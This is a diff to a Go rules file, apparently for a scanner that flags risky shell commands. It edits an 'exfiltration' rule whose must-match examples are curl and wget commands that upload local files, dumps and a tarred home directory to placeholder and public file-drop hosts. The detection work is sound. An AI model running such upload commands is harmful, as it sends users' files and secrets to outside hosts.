@@ -362,8 +362,10 @@ var rules = []*rule{
 	},
 	{
 		ID: "upload-file", Class: "exfiltration", Sev: high,
-		Msg:  "uploads a local file to a remote host",
-		Must: []string{"curl -T backup.tar https://files.example.net/drop/", "curl -F upload=@db.dump http://192.0.2.50/", "wget --post-file=notes.db http://192.0.2.51/in"},
+		Msg: "uploads a local file to a remote host",
+		Must: []string{"curl -F upload=@db.dump http://192.0.2.50/", "wget --post-file=notes.db http://192.0.2.51/in",
+			"curl -T site.tar.gz http://uploads.example.net/in/", "curl --upload-file ./dump.sql https://transfer.sh/dump.sql",
+			"curl -F 'c=@build.log' https://paste.example.net/", "tar czf - ~ | curl -T - https://files.example.net/drop/"},
 		MustNot: []string{"curl -d '{\"a\":1}' -H 'Content-Type: application/json' https://api.example.com/items", "curl -fsSL https://example.org",
 			"curl -X POST --data-binary @payload.bin http://localhost:8080/api"},
 		check: checkUpload,
